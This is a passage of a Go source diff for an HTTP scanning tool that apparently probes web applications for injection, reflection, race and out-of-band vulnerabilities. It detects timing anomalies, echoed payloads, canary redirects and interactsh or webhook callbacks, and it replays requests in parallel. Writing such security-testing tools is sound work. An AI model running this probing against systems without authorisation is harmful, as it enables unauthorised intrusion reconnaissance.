+		urls = expandPairs(urls)
+	case "auto":
+		for _, l := range urls {
+			if strings.Contains(l, "\t") {
+				fmt.Println("[+] Tab-delimited input detected, using URL<TAB>payload pairs")
+				urls = expandPairs(urls)
+				break
+			}
+		}
+	case "off":
+	default:
+		fmt.Printf("Invalid -pairs value: %s (use auto|on|off)\n", *pairsMode)
+		os.Exit(1)
+	}
+
+	if len(rewriteFlags) > 0 {
+		rules, err := parseRewrites(rewriteFlags)
+		if err != nil {
+			fmt.Printf("Invalid -rewrite: %v\n", err)
+			os.Exit(1)
+		}
+		urls = applyRewrites(urls, rules)
+	}
+
+	if *onePerPath {
+		var skipped int
+		urls, skipped = dedupeByPath(urls)
+		fmt.Printf("[+] Skipped %d URLs as host+path duplicates (%d left)\n", skipped, len(urls))
+	}
+
+	if useRotatingHeader {
+		templateFor = assignTemplates(urls, *headerSeed)
+		portsUsed = newTally()
+	}
+
+	if matchRes, err = loadMatchRes(*matchSpec, *matchFile); err != nil {
+		fmt.Printf("Invalid -match: %v\n", err)
+		os.Exit(1)
+	}
+	if (len(matchRes) > 0 || *reflectFile != "" || reflectPayloads) && matchBytes < 1 {
+		fmt.Println("Invalid -match-bytes: must be at least 1")
+		os.Exit(1)
+	}
+	if scanMinBody < 0 || scanMaxBody < 0 || (scanMaxBody > 0 && scanMaxBody < scanMinBody) {
+		fmt.Println("Invalid -scan-min-body/-scan-max-body: must be >= 0, and max >= min when set")
+		os.Exit(1)
+	}
+	for _, p := range strings.Split(*scanSkip, ",") {
+		if p = strings.ToLower(strings.TrimSpace(p)); p != "" {
+			scanSkipTypes = append(scanSkipTypes, p)
+		}
+	}
+	if *reflectFile != "" {
+		if reflectOut, err = newReflectReport(*reflectFile); err != nil {
+			fmt.Printf("Error creating -reflect-context report: %v\n", err)
+			os.Exit(1)
+		}
+		defer reflectOut.close()
+	}
+
+	if *compareFile != "" {
+		if diff, err = loadStatusDiff(*compareFile); err != nil {
+			fmt.Printf("Error loading -compare: %v\n", err)
+			os.Exit(1)
+		}
+		quiet = true
+	}
+
+	if *resume {
+		if *outPath == "" || *outFormat != "json" {
+			fmt.Println("-resume needs -o with -format json")
+			os.Exit(1)
+		}
+		if resumeDone, err = loadResume(*outPath); err != nil {
+			fmt.Printf("Error reading -o for -resume: %v\n", err)
+			os.Exit(1)
+		}
+		fmt.Printf("[+] Resuming: %d requests already recorded in %s will be skipped\n", len(resumeDone), *outPath)
+	}
+	if *outPath != "" {
+		if resultOut, err = newRecordWriter(*outPath, *outFormat, *resume); err != nil {
+			fmt.Printf("Error opening -o: %v\n", err)
+			os.Exit(1)
+		}
+		defer resultOut.close()
+	}
+
+	if *seenDBPath != "" {
+		if err := openSeenDB(*seenDBPath); err != nil {
+			fmt.Printf("Error opening seen-db: %v\n", err)
+			os.Exit(1)
+		}
+		defer seenDBFile.Close()
+		fmt.Printf("[+] Loaded %d known requests from %s\n", len(seenDB), *seenDBPath)
+	}
+
+	if *groupDir != "" {
+		if groupOut, err = newBucketWriter(*groupDir); err != nil {
+			fmt.Printf("Error creating output directory: %v\n", err)
+			os.Exit(1)
+		}
+		defer groupOut.close()
+	}
+
 	client := newHTTPClient(requestTimeout)
+	if len(jarSeed) > 0 {
+		seedCookieJar(client.Jar, urls, jarSeed)
+	}
+
+	// Only a real signal cancels runCtx, so finishing normally never prints
+	// the interrupt notice
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	runCtx = ctx
+	sigs := make(chan os.Signal, 1)
+	signal.Notify(sigs, os.Interrupt, syscall.SIGTERM)
+	go func() {
+		<-sigs
+		signal.Stop(sigs) // a second Ctrl-C kills the process as usual
+		fmt.Println("\n[!] Interrupted: cancelling in-flight requests, partial summary follows (Ctrl-C again to quit now)")
+		cancel()
+	}()
 
 	fmt.Println("Warming up connections to hosts...")
 	if err := warmupConnections(client, urls); err != nil {
@@ -103,15 +716,92 @@ func main() {
 	}
 	fmt.Println("Warmup done. Starting requests...")
 
-	switch reqMethodMode {
-	case "get":
-		runBatch(client, urls, http.MethodGet)
-	case "post":
-		runBatch(client, urls, http.MethodPost)
-	case "both":
-		runBatch(client, urls, http.MethodGet)
-		time.Sleep(5 * time.Second)
-		runBatch(client, urls, http.MethodPost)
+	if baselineSamples > 0 && minLatency > 0 {
+		fmt.Printf("Measuring baseline latency (%d requests per host)...\n", baselineSamples)
+		baselines = measureBaselines(client, urls)
+	}
+
+	if *oastServer != "" {
+		oast, err = registerInteractsh(*oastServer, *oastToken)
+		if err != nil {
+			fmt.Printf("Error registering with interactsh: %v\n", err)
+			os.Exit(1)
+		}
+		fmt.Printf("[+] Interactsh session on %s; rotating headers and URLs containing -collab get a per-request subdomain\n", oast.server)
+		if !useRotatingHeader && collab == "" {
+			fmt.Println("[!] Warning: -interactsh without -header=on or -collab has nowhere to put the OOB domains")
+		}
+		defer oast.deregister()
+	}
+	if *collabPollURL != "" {
+		if oast != nil {
+			fmt.Println("-collab-poll cannot be combined with -interactsh")
+			os.Exit(1)
+		}
+		if collab == "" {
+			fmt.Println("-collab-poll needs -collab: the per-request subdomains are made under it")
+			os.Exit(1)
+		}
+		if collabPoll, err = newWebhookPoller(*collabPollURL, *collabPollHeader, collab); err != nil {
+			fmt.Printf("Invalid -collab-poll: %v\n", err)
+			os.Exit(1)
+		}
+		fmt.Printf("[+] Giving every request its own subdomain of %s; %s is polled after the run\n", collab, *collabPollURL)
+	}
+
+	if concurrentMethods && len(reqMethods) > 1 {
+		runInterleaved(client, urls, reqMethods)
+		reqMethods = nil
+	}
+	for i, method := range reqMethods {
+		if i > 0 {
+			delay := batchDelay(urls)
+			fmt.Printf("Sleeping %s before %s batch...\n", delay, method)
+			select {
+			case <-time.After(delay):
+			case <-runCtx.Done():
+			}
+		}
+		if runCtx.Err() != nil {
+			fmt.Printf("Skipping %s batch (interrupted)\n", method)
+			continue
+		}
+		runBatch(client, urls, method)
+	}
+	if portsUsed != nil && len(lports) > 0 {
+		fmt.Printf("[+] Requests per listener port: %s\n", portsUsed)
+	}
+	if n := atomic.LoadInt64(&bodiesSkipped); n > 0 {
+		fmt.Printf("[+] Bodies not scanned (-scan-min-body/-scan-max-body/-scan-skip-types): %d\n", n)
+	}
+	if *hostSummary > 0 {
+		hostOutcomes.print(*hostSummary)
+	}
+	if runCtx.Err() != nil {
+		if *seenDBPath != "" || *resume {
+			fmt.Println("[+] Completed requests are checkpointed; re-run the same command to pick up where this run stopped")
+		} else {
+			fmt.Println("[!] Completed requests were not checkpointed; add -seen-db=file (or -o json with -resume) so a re-run can skip them")
+		}
+	}
+
+	if diff != nil {
+		diff.report(*compareFile)
+	}
+
+	if oast != nil || collabPoll != nil {
+		if runCtx.Err() == nil {
+			fmt.Printf("Waiting %s for OOB callbacks...\n", *oastWait)
+			select {
+			case <-time.After(*oastWait):
+			case <-runCtx.Done():
+			}
+		}
+		if oast != nil {
+			oast.report()
+		} else {
+			collabPoll.report()
+		}
 	}
 }
 
@@ -120,191 +810,2848 @@ func runBatch(client *http.Client, urls []string, method string) {
 	sem := make(chan struct{}, maxConcurrency)
 	var successCount int64
 	var errorCount int64
+	var seenCount int64
+	var hiddenCount int64
+	var cancelledCount int64
+	notSent := 0
+	protos := newTally()
+	newBefore, reusedBefore := atomic.LoadInt64(&connNew), atomic.LoadInt64(&connReused)
 
 	title := strings.ToUpper(method)
 	fmt.Printf("=== Starting %s batch ===\n", title)
 
-	for _, urlStr := range urls {
+	for i, urlStr := range urls {
+		if runCtx.Err() != nil {
+			notSent = len(urls) - i
+			break
+		}
+		if isSeen(method, urlStr) {
+			seenCount++
+			continue
+		}
 		wg.Add(1)
 		sem <- struct{}{}
 		go func(u string) {
 			defer wg.Done()
 			defer func() { <-sem }()
 
-			status, err := fetchStatus(client, u, method)
+			if replayCount > 1 {
+				ok, failed, hidden := runReplay(client, u, method, protos)
+				atomic.AddInt64(&successCount, int64(ok))
+				atomic.AddInt64(&errorCount, int64(failed))
+				if hidden {
+					atomic.AddInt64(&hiddenCount, 1)
+				}
+				if ok > 0 {
+					markSeen(method, u)
+				}
+				return
+			}
+
+			res, err := sendRequest(client, u, method)
 			if err != nil {
-				fmt.Printf("[ERROR] %s - %v\n", u, err)
+				if runCtx.Err() != nil {
+					atomic.AddInt64(&cancelledCount, 1)
+					return
+				}
+				if !quiet {
+					fmt.Printf("[ERROR] %s - %v\n", u, err)
+				}
 				atomic.AddInt64(&errorCount, 1)
 				return
 			}
 			atomic.AddInt64(&successCount, 1)
+			markSeen(method, u)
+			protos.add(res.Proto)
+			if hiddenStatus(res.Status) && !flagged(res) {
+				atomic.AddInt64(&hiddenCount, 1)
+				return
+			}
+			if quiet {
+				return
+			}
 
-			red := "\033[31;1m"
-			reset := "\033[0m"
-			fmt.Printf("Method: %s\nURL: %s\nStatus: %s%d%s\n\n", method, u, red, status, reset)
+			fmt.Printf("Method: %s\nURL: %s\nStatus: %s%d%s\nLatency: %s\n", method, u, red, res.Status, reset, res.Elapsed.Round(time.Millisecond))
+			if forceHTTP1 {
+				fmt.Printf("Protocol: %s\n", res.Proto)
+			}
+			if res.Location != "" {
+				fmt.Printf("Location: %s\n", res.Location)
+			}
+			printFindings(res)
+			fmt.Println()
 		}(urlStr)
 	}
 
 	wg.Wait()
 
 	total := len(urls)
-	fmt.Printf("=== %s batch complete ===\n", title)
-	fmt.Printf("Summary: Processed %d URLs\n", total)
+	if runCtx.Err() != nil {
+		fmt.Printf("=== %s batch interrupted ===\n", title)
+	} else {
+		fmt.Printf("=== %s batch complete ===\n", title)
+	}
+	fmt.Printf("Summary: Processed %d URLs\n", total-notSent)
+	if runCtx.Err() != nil {
+		fmt.Printf("Not sent (interrupted): %d URLs\n", notSent)
+		fmt.Printf("Cancelled in flight: %d\n", atomic.LoadInt64(&cancelledCount))
+	}
+	if replayCount > 1 {
+		fmt.Printf("Requests sent: %d (%d per URL, parallel=%v)\n", (int64(total)-seenCount)*int64(replayCount), replayCount, replayParallel)
+	}
 	fmt.Printf("Successful: %d\n", atomic.LoadInt64(&successCount))
-	fmt.Printf("Errors: %d\n\n", atomic.LoadInt64(&errorCount))
-}
-
-func newHTTPClient(timeout time.Duration) *http.Client {
-	dialer := &net.Dialer{
-		Timeout:   dialTimeout,
-		KeepAlive: 60 * time.Second,
+	fmt.Printf("Errors: %d\n", atomic.LoadInt64(&errorCount))
+	if seenDB != nil || resumeDone != nil {
+		fmt.Printf("Skipped (already seen): %d\n", seenCount)
 	}
-	tr := &http.Transport{
-		Proxy:                 http.ProxyFromEnvironment,
-		DialContext:           dialer.DialContext,
-		ForceAttemptHTTP2:     true,
-		MaxIdleConns:          200,
-		MaxIdleConnsPerHost:   100,
-		IdleConnTimeout:       idleTimeout,
-		TLSHandshakeTimeout:   tlsTimeout,
-		ExpectContinueTimeout: 2 * time.Second,
-		TLSClientConfig: &tls.Config{
-			MinVersion: tls.VersionTLS12,
-		},
+	if excludeStatus != nil || matchStatus != nil {
+		fmt.Printf("Hidden by -exclude-status/-match-status: %d\n", atomic.LoadInt64(&hiddenCount))
 	}
-	return &http.Client{Transport: tr, Timeout: timeout}
+	printBatchFooter(protos, newBefore, reusedBefore)
 }
 
-func warmupConnections(client *http.Client, urls []string) error {
-	hosts := uniqueHosts(urls)
-	if len(hosts) == 0 {
-		return nil
+// printBatchFooter prints the summary lines shared by every batch mode.
+func printBatchFooter(protos *tally, newBefore, reusedBefore int64) {
+	fmt.Printf("Protocols: %s\n", protos)
+	if len(customHeaders) > 0 {
+		fmt.Printf("Headers: %d custom (precedence: -header=on rotating > -cookie > -H > -headers-file > -ua-file/default User-Agent)\n", len(customHeaders))
 	}
-	sem := make(chan struct{}, warmConcurrency)
-	var wg sync.WaitGroup
-	for host := range hosts {
-		wg.Add(1)
-		sem <- struct{}{}
-		go func(h string) {
-			defer wg.Done()
-			defer func() { <-sem }()
-			warmHost(client, h)
-		}(host)
+	if maxRetries > 0 {
+		printRetryStats()
 	}
-	wg.Wait()
-	return nil
+	printConnStats(atomic.LoadInt64(&connNew)-newBefore, atomic.LoadInt64(&connReused)-reusedBefore)
+	fmt.Println()
 }
 
-func warmHost(client *http.Client, host string) {
-	addr := host
-	if !strings.Contains(host, ":") {
-		addr = host + ":443"
+// flagged reports whether res carries a finding that -exclude-status must not hide.
+func flagged(res fetchResult) bool {
+	return res.CanaryHit || res.Match != "" || len(res.Reflected) > 0 || res.PayloadReflected != "" ||
+		(expectProto != "" && res.Proto != expectProto) ||
+		isSlow(res) || sleptLonger(res)
+}
+
+// sleptLonger reports whether -sleep-detect saw the payload request take
+// -sleep-threshold longer than its benign copy.
+func sleptLonger(res fetchResult) bool {
+	return res.Benign > 0 && res.Elapsed-res.Benign >= sleepThreshold
+}
+
+// isSlow reports whether res took -min-latency longer than its host's
+// baseline (or than nothing, without -baseline).
+func isSlow(res fetchResult) bool {
+	return minLatency > 0 && res.Elapsed >= res.Baseline+minLatency
+}
+
+// printFindings prints the [SLOW], [CANARY], [MATCH], [PAYLOAD REFLECTED],
+// [REFLECTED] and [PROTO] lines for res.
+func printFindings(res fetchResult) {
+	if isSlow(res) {
+		if res.Baseline > 0 {
+			fmt.Printf("%s[SLOW] %s vs host baseline %s, %s over it (>= -min-latency), possible time-based injection%s\n", red, res.Elapsed.Round(time.Millisecond), res.Baseline.Round(time.Millisecond), (res.Elapsed - res.Baseline).Round(time.Millisecond), reset)
+		} else {
+			fmt.Printf("%s[SLOW] %s >= -min-latency %s, possible time-based injection%s\n", red, res.Elapsed.Round(time.Millisecond), minLatency, reset)
+		}
 	}
-	d := net.Dialer{Timeout: 5 * time.Second, KeepAlive: 30 * time.Second}
-	if conn, err := d.Dial("tcp", addr); err == nil {
-		_ = conn.Close()
+	if sleptLonger(res) {
+		fmt.Printf("%s[SLEEP] payload %s vs benign %s (+%s >= -sleep-threshold %s), likely command/SQL execution%s\n", red, res.Elapsed.Round(time.Millisecond), res.Benign.Round(time.Millisecond), (res.Elapsed - res.Benign).Round(time.Millisecond), sleepThreshold, reset)
 	}
-	warmURL := "https://" + host + "/"
-	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
-	defer cancel()
+	if res.CanaryHit {
+		fmt.Printf("%s[CANARY] redirected to %s%s\n", red, canaryDomain, reset)
+	}
+	if res.Match != "" {
+		fmt.Printf("%s[MATCH] %q%s\n", red, res.Match, reset)
+	}
+	if res.PayloadReflected != "" {
+		fmt.Printf("%s[PAYLOAD REFLECTED] %s value echoed verbatim in the body%s\n", red, res.PayloadReflected, reset)
+	}
+	for _, r := range res.Reflected {
+		fmt.Printf("%s[REFLECTED] %s in %s%s\n", red, r.Param, r.Context, reset)
+	}
+	if expectProto != "" && res.Proto != expectProto {
+		fmt.Printf("%s[PROTO] negotiated %s, expected %s%s\n", red, res.Proto, expectProto, reset)
+	}
+	if res.Curl != "" {
+		fmt.Printf("Curl: %s\n", res.Curl)
+	}
+}
+
+// curlCommand renders req as a copy-pasteable curl line: method, URL, every
+// header set in fetchStatus (sorted), the body, and the -k/-proxy/-connect-to
+// equivalents. Values are single-quoted for POSIX shells.
+func curlCommand(req *http.Request) string {
+	args := []string{"curl", "-sS", "-i", "-X", req.Method}
+	if req.Host != "" && req.Host != req.URL.Host {
+		args = append(args, "-H", shellQuote("Host: "+req.Host))
+	}
+	keys := make([]string, 0, len(req.Header))
+	for k := range req.Header {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	for _, k := range keys {
+		for _, v := range req.Header[k] {
+			args = append(args, "-H", shellQuote(k+": "+v))
+		}
+	}
+	if len(jarSeed) > 0 {
+		parts := make([]string, len(jarSeed))
+		for i, c := range jarSeed {
+			parts[i] = c.Name + "=" + c.Value
+		}
+		args = append(args, "-b", shellQuote(strings.Join(parts, "; ")))
+	}
+	if sendsBody(req.Method) {
+		args = append(args, "--data-binary", shellQuote(string(reqBody)))
+	}
+	if forceHTTP1 {
+		args = append(args, "--http1.1")
+	}
+	if insecure {
+		args = append(args, "-k")
+	}
+	if clientCertPath != "" {
+		args = append(args, "--cert", shellQuote(clientCertPath), "--key", shellQuote(clientKeyPath))
+	}
+	if proxyURL != nil {
+		args = append(args, "--proxy", shellQuote(proxyURL.String()))
+	}
+	if connectTo != "" {
+		args = append(args, "--connect-to", shellQuote("::"+connectTo))
+	}
+	if maxRedirects > 0 {
+		args = append(args, "-L", "--max-redirs", strconv.Itoa(maxRedirects))
+	}
+	args = append(args, shellQuote(req.URL.String()))
+	return strings.Join(args, " ")
+}
+
+// shellQuote single-quotes s, closing and escaping any embedded quote.
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+// runInterleaved is the -concurrent-methods batch: every method of every URL
+// goes through the same worker pool, and each URL is printed once, when its
+// last method finishes, with one line per method. URLs whose methods got
+// different statuses are flagged [METHODS] since the divergence is the signal.
+func runInterleaved(client *http.Client, urls []string, methods []string) {
+	var wg sync.WaitGroup
+	sem := make(chan struct{}, maxConcurrency)
+	var successCount, errorCount, seenCount, hiddenCount, divergent, cancelledCount int64
+	notSent := 0
+	protos := newTally()
+	newBefore, reusedBefore := atomic.LoadInt64(&connNew), atomic.LoadInt64(&connReused)
+
+	title := strings.Join(methods, "+")
+	fmt.Printf("=== Starting %s batch (interleaved) ===\n", title)
+
+	type outcome struct {
+		res fetchResult
+		err error
+		ran bool
+	}
+	var printMu sync.Mutex
+	for n, urlStr := range urls {
+		if runCtx.Err() != nil {
+			notSent = len(urls) - n
+			break
+		}
+		outs := make([]outcome, len(methods))
+		// Decide once which methods to send: a duplicate URL finishing
+		// meanwhile must not change the count pending waits for
+		var todo []int
+		for i, m := range methods {
+			if isSeen(m, urlStr) {
+				seenCount++
+			} else {
+				todo = append(todo, i)
+			}
+		}
+		if len(todo) == 0 {
+			continue
+		}
+		pending := int32(len(todo))
+		finish := func(u string) {
+			if atomic.AddInt32(&pending, -1) != 0 {
+				return
+			}
+			statuses := make(map[int]bool)
+			show := false
+			sent := false
+			for _, o := range outs {
+				sent = sent || o.ran
+				if o.ran && o.err == nil {
+					statuses[o.res.Status] = true
+					show = show || !hiddenStatus(o.res.Status) || flagged(o.res)
+				} else if o.ran {
+					show = true
+				}
+			}
+			if !sent {
+				// every method was cancelled by an interrupt
+				return
+			}
+			diverged := len(statuses) > 1
+			if diverged {
+				atomic.AddInt64(&divergent, 1)
+			}
+			if !show && !diverged {
+				atomic.AddInt64(&hiddenCount, 1)
+				return
+			}
+			if quiet {
+				return
+			}
+			printMu.Lock()
+			defer printMu.Unlock()
+			fmt.Printf("URL: %s\n", u)
+			for i, o := range outs {
+				switch {
+				case !o.ran:
+					continue
+				case o.err != nil:
+					fmt.Printf("  %-7s [ERROR] %v\n", methods[i], o.err)
+				default:
+					fmt.Printf("  %-7s %s%d%s %s", methods[i], red, o.res.Status, reset, o.res.Elapsed.Round(time.Millisecond))
+					if forceHTTP1 {
+						fmt.Printf(" %s", o.res.Proto)
+					}
+					if o.res.Location != "" {
+						fmt.Printf(" -> %s", o.res.Location)
+					}
+					fmt.Println()
+					printFindings(o.res)
+				}
+			}
+			if diverged {
+				fmt.Printf("%s[METHODS] statuses differ across methods%s\n", red, reset)
+			}
+			fmt.Println()
+		}
+		for _, i := range todo {
+			m := methods[i]
+			wg.Add(1)
+			sem <- struct{}{}
+			go func(u, method string, o *outcome) {
+				defer wg.Done()
+				defer func() { <-sem }()
+				o.res, o.err = sendRequest(client, u, method)
+				switch {
+				case o.err != nil && runCtx.Err() != nil:
+					// left out of the output like an unsent method
+					atomic.AddInt64(&cancelledCount, 1)
+				case o.err != nil:
+					o.ran = true
+					atomic.AddInt64(&errorCount, 1)
+				default:
+					o.ran = true
+					atomic.AddInt64(&successCount, 1)
+					markSeen(method, u)
+					protos.add(o.res.Proto)
+				}
+				finish(u)
+			}(urlStr, m, &outs[i])
+		}
+	}
+
+	wg.Wait()
+
+	if runCtx.Err() != nil {
+		fmt.Printf("=== %s batch interrupted ===\n", title)
+	} else {
+		fmt.Printf("=== %s batch complete ===\n", title)
+	}
+	fmt.Printf("Summary: Processed %d URLs x %d methods\n", len(urls)-notSent, len(methods))
+	if runCtx.Err() != nil {
+		fmt.Printf("Not sent (interrupted): %d URLs\n", notSent)
+		fmt.Printf("Cancelled in flight: %d\n", atomic.LoadInt64(&cancelledCount))
+	}
+	fmt.Printf("Successful: %d\n", atomic.LoadInt64(&successCount))
+	fmt.Printf("Errors: %d\n", atomic.LoadInt64(&errorCount))
+	fmt.Printf("Status differs across methods: %d URLs\n", atomic.LoadInt64(&divergent))
+	if seenDB != nil || resumeDone != nil {
+		fmt.Printf("Skipped (already seen): %d requests\n", seenCount)
+	}
+	if excludeStatus != nil || matchStatus != nil {
+		fmt.Printf("Hidden by -exclude-status/-match-status: %d URLs\n", atomic.LoadInt64(&hiddenCount))
+	}
+	printBatchFooter(protos, newBefore, reusedBefore)
+}
+
+// runReplay sends the same request replayCount times, either back to back or
+// released together from a start barrier, and prints the aggregated outcomes.
+// URLs whose replays disagree are flagged since that is the race signal; URLs
+// whose replays all returned an excluded status are not printed (hidden).
+func runReplay(client *http.Client, u, method string, protos *tally) (ok, failed int, hidden bool) {
+	results := make([]fetchResult, replayCount)
+	errs := make([]error, replayCount)
+	if replayParallel {
+		var wg sync.WaitGroup
+		start := make(chan struct{})
+		for i := 0; i < replayCount; i++ {
+			wg.Add(1)
+			go func(i int) {
+				defer wg.Done()
+				<-start
+				results[i], errs[i] = sendRequest(client, u, method)
+			}(i)
+		}
+		close(start)
+		wg.Wait()
+	} else {
+		for i := 0; i < replayCount; i++ {
+			results[i], errs[i] = sendRequest(client, u, method)
+		}
+	}
+
+	counts := make(map[string]int)
+	canaryHits := 0
+	excluded := 0
+	mismatched := 0
+	matched := 0
+	lastMatch := ""
+	slow := 0
+	for i := range results {
+		if errs[i] != nil {
+			counts["error"]++
+			failed++
+			continue
+		}
+		counts[fmt.Sprint(results[i].Status)]++
+		protos.add(results[i].Proto)
+		if expectProto != "" && results[i].Proto != expectProto {
+			mismatched++
+		}
+		if results[i].CanaryHit {
+			canaryHits++
+		}
+		if isSlow(results[i]) || sleptLonger(results[i]) {
+			slow++
+		}
+		if results[i].Match != "" {
+			matched++
+			lastMatch = results[i].Match
+		}
+		if hiddenStatus(results[i].Status) {
+			excluded++
+		}
+		ok++
+	}
+	if excluded == replayCount && canaryHits == 0 && mismatched == 0 && matched == 0 && slow == 0 {
+		return ok, failed, true
+	}
+	if quiet {
+		return ok, failed, false
+	}
+	outcomes := make([]string, 0, len(counts))
+	for k := range counts {
+		outcomes = append(outcomes, k)
+	}
+	sort.Slice(outcomes, func(i, j int) bool {
+		if counts[outcomes[i]] != counts[outcomes[j]] {
+			return counts[outcomes[i]] > counts[outcomes[j]]
+		}
+		return outcomes[i] < outcomes[j]
+	})
+	parts := make([]string, len(outcomes))
+	for i, k := range outcomes {
+		parts[i] = fmt.Sprintf("%d×%s", counts[k], k)
+	}
+
+	fmt.Printf("Method: %s\nURL: %s\nStatus: %s%s%s\n", method, u, red, strings.Join(parts, ", "), reset)
+	if canaryHits > 0 {
+		fmt.Printf("%s[CANARY] %d/%d replays redirected to %s%s\n", red, canaryHits, replayCount, canaryDomain, reset)
+	}
+	if slow > 0 {
+		if base := results[0].Baseline; base > 0 {
+			fmt.Printf("%s[SLOW] %d/%d replays took at least %s over the host baseline of %s%s\n", red, slow, replayCount, minLatency, base.Round(time.Millisecond), reset)
+		} else {
+			fmt.Printf("%s[SLOW] %d/%d replays took at least %s%s\n", red, slow, replayCount, minLatency, reset)
+		}
+	}
+	if matched > 0 {
+		fmt.Printf("%s[MATCH] %d/%d replays, e.g. %q%s\n", red, matched, replayCount, lastMatch, reset)
+	}
+	if mismatched > 0 {
+		fmt.Printf("%s[PROTO] %d/%d replays not negotiated as %s%s\n", red, mismatched, replayCount, expectProto, reset)
+	}
+	if len(counts) > 1 {
+		fmt.Printf("%s[DIVERGENT] replays returned %d different outcomes%s\n", red, len(counts), reset)
+		for i, err := range errs {
+			if err != nil {
+				fmt.Printf("  replay %d: %v\n", i+1, err)
+			}
+		}
+	}
+	fmt.Println()
+	return ok, failed, false
+}
+
+// interactshSession is a registration with an interactsh server. Every request
+// gets its own subdomain (correlation id + nonce) so callbacks can be traced
+// back to the method and URL that triggered them.
+type interactshSession struct {
+	server string
+	token  string
+	cid    string
+	secret string
+	key    *rsa.PrivateKey
+	client *http.Client
+
+	mu   sync.Mutex
+	sent map[string]string // correlation id + nonce -> "METHOD URL"
+}
+
+// interaction is the decrypted callback record returned by /poll.
+type interaction struct {
+	Protocol      string `json:"protocol"`
+	UniqueID      string `json:"unique-id"`
+	FullID        string `json:"full-id"`
+	RemoteAddress string `json:"remote-address"`
+	Timestamp     string `json:"timestamp"`
+}
+
+const (
+	oastCIDLength   = 20 // interactsh server defaults
+	oastNonceLength = 13
+)
+
+func registerInteractsh(server, token string) (*interactshSession, error) {
+	server = strings.TrimSuffix(strings.TrimPrefix(strings.TrimPrefix(strings.TrimSpace(server), "https://"), "http://"), "/")
+	key, err := rsa.GenerateKey(crand.Reader, 2048)
+	if err != nil {
+		return nil, err
+	}
+	der, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
+	if err != nil {
+		return nil, err
+	}
+	pub := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: der})
+	s := &interactshSession{
+		server: server,
+		token:  token,
+		cid:    randomLabel(oastCIDLength),
+		secret: randomLabel(32),
+		key:    key,
+		client: &http.Client{Timeout: 20 * time.Second},
+		sent:   make(map[string]string),
+	}
+	err = s.post("/register", map[string]string{
+		"public-key":     base64.StdEncoding.EncodeToString(pub),
+		"secret-key":     s.secret,
+		"correlation-id": s.cid,
+	})
+	if err != nil {
+		return nil, err
+	}
+	return s, nil
+}
+
+// domainFor returns a fresh OOB domain and remembers what it was used for.
+func (s *interactshSession) domainFor(label string) string {
+	id := s.cid + randomLabel(oastNonceLength)
+	s.mu.Lock()
+	s.sent[id] = label
+	s.mu.Unlock()
+	return id + "." + s.server
+}
+
+func (s *interactshSession) post(path string, body map[string]string) error {
+	b, _ := json.Marshal(body)
+	req, err := http.NewRequest(http.MethodPost, "https://"+s.server+path, bytes.NewReader(b))
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "application/json")
+	if s.token != "" {
+		req.Header.Set("Authorization", s.token)
+	}
+	resp, err := s.client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		msg, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
+		return fmt.Errorf("%s: %s %s", path, resp.Status, strings.TrimSpace(string(msg)))
+	}
+	return nil
+}
+
+// poll fetches and decrypts the interactions recorded since the last poll:
+// the AES key comes RSA-OAEP encrypted, each record is AES-CFB with the IV
+// prepended.
+func (s *interactshSession) poll() ([]interaction, error) {
+	req, err := http.NewRequest(http.MethodGet, "https://"+s.server+"/poll?id="+url.QueryEscape(s.cid)+"&secret="+url.QueryEscape(s.secret), nil)
+	if err != nil {
+		return nil, err
+	}
+	if s.token != "" {
+		req.Header.Set("Authorization", s.token)
+	}
+	resp, err := s.client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		return nil, fmt.Errorf("/poll: %s", resp.Status)
+	}
+	var body struct {
+		Data   []string `json:"data"`
+		AESKey string   `json:"aes_key"`
+	}
+	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
+		return nil, err
+	}
+	if len(body.Data) == 0 {
+		return nil, nil
+	}
+	encKey, err := base64.StdEncoding.DecodeString(body.AESKey)
+	if err != nil {
+		return nil, err
+	}
+	aesKey, err := rsa.DecryptOAEP(sha256.New(), crand.Reader, s.key, encKey, nil)
+	if err != nil {
+		return nil, err
+	}
+	block, err := aes.NewCipher(aesKey)
+	if err != nil {
+		return nil, err
+	}
+	var out []interaction
+	for _, d := range body.Data {
+		ct, err := base64.StdEncoding.DecodeString(d)
+		if err != nil || len(ct) < aes.BlockSize {
+			continue
+		}
+		plain := make([]byte, len(ct)-aes.BlockSize)
+		cipher.NewCFBDecrypter(block, ct[:aes.BlockSize]).XORKeyStream(plain, ct[aes.BlockSize:])
+		var it interaction
+		if json.Unmarshal(bytes.TrimSpace(plain), &it) == nil {
+			out = append(out, it)
+		}
+	}
+	return out, nil
+}
+
+// report polls once and prints each callback with the request it maps to.
+func (s *interactshSession) report() {
+	its, err := s.poll()
+	if err != nil {
+		fmt.Printf("[!] Interactsh poll failed: %v\n", err)
+		return
+	}
+	matched := 0
+	for _, it := range its {
+		id := strings.ToLower(it.UniqueID)
+		s.mu.Lock()
+		label, ok := s.sent[id]
+		s.mu.Unlock()
+		if !ok {
+			label = "(no matching request: " + it.FullID + ")"
+		} else {
+			matched++
+		}
+		fmt.Printf("%s[OOB] %s from %s at %s -> %s%s\n", red, strings.ToUpper(it.Protocol), it.RemoteAddress, it.Timestamp, label, reset)
+	}
+	fmt.Printf("Interactsh: %d interactions, %d matched to requests (%d OOB domains issued)\n", len(its), matched, len(s.sent))
+}
+
+func (s *interactshSession) deregister() {
+	if err := s.post("/deregister", map[string]string{"correlation-id": s.cid, "secret-key": s.secret}); err != nil {
+		fmt.Printf("[!] Interactsh deregister failed: %v\n", err)
+	}
+}
+
+// webhookPoller correlates callbacks for a self-hosted -collab domain. Each
+// request gets a random subdomain of it, and after the run the -collab-poll
+// URL is fetched once; any label that appears in its body fired. This works
+// with anything that lists received hostnames, whatever its format.
+type webhookPoller struct {
+	url    string
+	header [2]string // optional Name, Value
+	domain string
+	client *http.Client
+
+	mu   sync.Mutex
